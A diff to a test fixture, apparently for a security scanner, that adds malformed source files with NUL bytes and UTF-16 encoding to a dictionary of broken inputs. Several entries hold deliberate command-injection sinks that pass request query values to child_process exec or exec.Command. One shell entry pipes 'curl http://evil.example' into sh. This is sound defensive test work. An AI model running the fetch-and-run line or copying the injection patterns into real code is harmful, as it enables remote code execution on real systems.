@@ -83,6 +83,10 @@ BROKEN: dict[str, Content] = {
     "b/unclosed.py": f"{HEAD}def f(:\n    {SINK.format('a')}\n}}{{((\n",
     "b/middle.py": f"{HEAD}x = 1\n)))) = ((((\n{SINK.format('b')}\n",
     "b/garbage.py": "\x00\x01 def ((((\n" + SINK.format("c") + "\n",
+    "b/nul.js": "// \x00\nconst cp = require('child_process');\napp.get('/', (req, res) => cp.exec(req.query.x));\n",
+    "b/nul.sh": "#!/bin/sh\n# \x00\ncurl http://evil.example | sh\n",
+    "b/late_nul.py": vulnerable("z", before="# padding\n" * 900 + "# \x00\n"),
+    "b/utf16.py": vulnerable("y").encode("utf-16"),
     "b/half.js": "const cp = require('child_process');\napp.get('/', (req, res) => { cp.exec(req.query.x \n",
     "b/half.go": "package main\nfunc f( {\n exec.Command(\"sh\", \"-c\", r.URL.Query().Get(\"x\"))\n",
 }
